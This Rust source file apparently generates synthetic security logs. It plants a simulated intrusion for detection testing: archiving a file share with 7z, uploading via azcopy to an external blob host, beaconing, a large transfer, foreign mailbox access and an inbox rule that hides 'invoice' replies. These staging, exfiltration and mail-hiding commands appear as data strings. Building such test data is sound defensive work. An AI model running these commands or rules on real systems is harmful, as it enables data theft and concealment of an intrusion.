//! The planted story through all suites: one person's workstation and account, from the archive to the mailbox, within
//! a day.

use super::super::flows::{FlowRow, MACHINES};
use super::super::office::{FILE_DOWNLOADED, INBOX_RULE, LOGGED_IN, MAIL_READ, OfficeRow};
use super::super::people::Person;
use super::super::places::SINGAPORE;
use super::super::tables::Shares;
use super::super::truth::{Attack, PlantedIncident};
use super::super::world::{STORY_HOST, STORY_HOURLY_BYTES, World};
use super::egress::{has_baseline, spike};
use super::operations::{Access, forenoon_at_home, operation, repeat};
use super::staging::{Packing, pack};
use super::uploads::{Sizes, Upload, send};
use super::{HOUR_US, MINUTE_US, Planner, beacons, exfiltration, locations, text};

const PACKING: Packing = Packing {
    id: "story-1-staging",
    parent: "explorer.exe",
    file: "cmd.exe",
    command: r"cmd.exe /c for /d %d in (\\files\board\*) do 7z.exe a -mhe C:\Users\{u}\AppData\Local\Temp\%~nd.7z %d",
    folder: r"C:\Users\{u}\AppData\Local\Temp\",
    archive: "board-{n}.7z",
    archives: 5,
};
/// The content of the archives is uploaded first, and is so small that its hour is not a spike. The archives follow on
/// another path.
const UPLOAD: Upload = Upload {
    id: "story-2-upload",
    file: "azcopy.exe",
    command: r"azcopy.exe copy C:\Users\Public\Documents\index.txt https://harborsync01.blob.core.windows.net/in?sv=2024-11-04",
    remote_url: "harborsync01.blob.core.windows.net",
    remote_address: "203.0.113.117",
    port: 443,
    connections: 2,
    blob_writes: Some(("harborsync01", 3)),
    sizes: Sizes { of_connection: (60_000, 120_000), of_block: (20_000, 90_000) },
};
const BEACON_ADDRESS: &str = "203.0.113.70";
const TRANSFER_ADDRESS: &str = "198.51.100.70";
const TRANSFER_MIB: i64 = 420;
const TRANSFER_SESSIONS: i64 = 14;
/// Addresses from which the intruder reads mail.
const INTRUDER_ADDRESSES: u32 = 3;
const INTRUDER_BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

pub(super) fn plant(planner: &mut Planner, shares: &Shares, world: &World) {
    let host = &world.hosts[STORY_HOST];
    let person = &world.people[0];
    // In the middle of the lake, and not on its first day if there is another, because a spike needs hours before it.
    let midnight = planner.day_of_turn(planner.days / 2);
    let at = |minutes: i64| midnight + minutes * MINUTE_US;
    let mut attacks = Vec::new();

    let start = at(7 * 60 + 40) + planner.rng.between(0, 10 * MINUTE_US);
    attacks.push(pack(planner, host, start, &PACKING));
    let start = at(8 * 60 + 25) + planner.rng.between(0, 10 * MINUTE_US);
    attacks.push(send(planner, host, start, &UPLOAD));
    let period = (at(9 * 60 + 5), at(17 * 60 + 30));
    attacks.push(beacons::call(planner, "story-3-beacon", (host, BEACON_ADDRESS), (120, 8), period));
    if has_baseline(shares, world) {
        let bytes = (TRANSFER_MIB * 1_048_576) as f64;
        let size = ("story-4-egress", (bytes / STORY_HOURLY_BYTES) as i64);
        attacks.push(spike(planner, size, (host, TRANSFER_ADDRESS), at(18 * 60), bytes));
    }
    // The firewall logs sessions when they end.
    let (id, size) = ("story-5-transfer", (TRANSFER_MIB, TRANSFER_SESSIONS));
    let mut transfer = exfiltration::attack(id, &host.address, TRANSFER_ADDRESS, size.0, size.1);
    let (hosts, period) = (std::slice::from_ref(host), (at(18 * 60 + 20), at(18 * 60 + 58)));
    exfiltration::transfer(planner, &mut transfer.planted, (hosts, TRANSFER_ADDRESS), size, period);
    attacks.push(transfer);
    attacks.push(mailbox(planner, person, (at(19 * 60 + 10), at(22 * 60))));
    let time = at(22 * 60 + 5) + planner.rng.between(0, 10 * MINUTE_US);
    attacks.push(inbox_rule(planner, person, time));

    attacks.retain(|attack| attack.planted.rows > 0);
    let moments = |of: fn(&Attack) -> i64| attacks.iter().map(of);
    let first_seen = moments(|attack| attack.planted.first_seen).min();
    let last_seen = moments(|attack| attack.planted.last_seen).max();
    let (Some(first_seen), Some(last_seen)) = (first_seen, last_seen) else { return };
    planner.plan.incidents.push(PlantedIncident {
        id: "story",
        attacks: attacks.iter().map(|attack| attack.id.clone()).collect(),
        device: host.name.clone(),
        address: host.address.clone(),
        user: person.user_id.clone(),
        first_seen,
        last_seen,
    });
    attacks.into_iter().for_each(|attack| planner.finish(attack));
}

/// Reads the person's mail and documents from abroad, and connects to a web server of the company.
fn mailbox(planner: &mut Planner, person: &Person, period: (i64, i64)) -> Attack {
    let mut attack = locations::attack("story-6-mailbox", person, &SINGAPORE, INTRUDER_ADDRESSES);
    for number in 0..INTRUDER_ADDRESSES {
        let address = &SINGAPORE.address(60 + 11 * number);
        let access = Access { person, address, user_agent: INTRUDER_BROWSER };
        for (operation, times) in [(&LOGGED_IN, 2), (&MAIL_READ, 15), (&FILE_DOWNLOADED, 25)] {
            repeat(planner, &mut attack.planted, &access, (operation, times), period);
        }
        let row = visit(planner.rng.between(period.0, period.1), address);
        planner.add_flow(&mut attack.planted, row);
    }
    let context = forenoon_at_home(planner, person, period.0);
    attack.planted.count_context(&context);
    attack
}

/// A few flows to a web server, logged an hour later.
fn visit(time_us: i64, address: &str) -> FlowRow<String> {
    FlowRow {
        time: time_us + HOUR_US,
        flow_start: time_us,
        flow_end: time_us + 5 * MINUTE_US,
        machine: text(MACHINES[0].0),
        machine_address: text(MACHINES[0].1),
        public_addresses: Some(format!(r#"["{address}"]"#)),
        external_address: text(address),
        l4_protocol: text("T"),
        l7_protocol: text("https"),
        destination_port: Some(443),
        direction: text("I"),
        allowed_out_flows: Some(0),
        allowed_in_flows: Some(4),
        flow_type: text("ExternalPublic"),
        ..FlowRow::default()
    }
}

/// What the rule does: replies go to the folder of feeds, which hardly anybody opens.
const HIDING_RULE: &str = r#"[{"Name":"SubjectOrBodyContainsWords","Value":"invoice"},{"Name":"MoveToFolder","Value":"RSS Feeds"},{"Name":"MarkAsRead","Value":"True"}]"#;

/// A mail rule that hides replies.
fn inbox_rule(planner: &mut Planner, person: &Person, time_us: i64) -> Attack {
    let mut attack =
        Attack::new("story-7-inbox-rule", "rare_combinations", "seen once in the lake", "T1078.004")
            .entity("user", &person.user_id)
            .entity("operation", INBOX_RULE.name)
            .entity("country_code", SINGAPORE.country);
    let address = &SINGAPORE.address(60);
    let access = Access { person, address, user_agent: INTRUDER_BROWSER };
    let row =
        OfficeRow { parameters: text(HIDING_RULE), ..operation(planner, time_us, &access, &INBOX_RULE) };
    planner.add_office(&mut attack.planted, row);
    attack
}
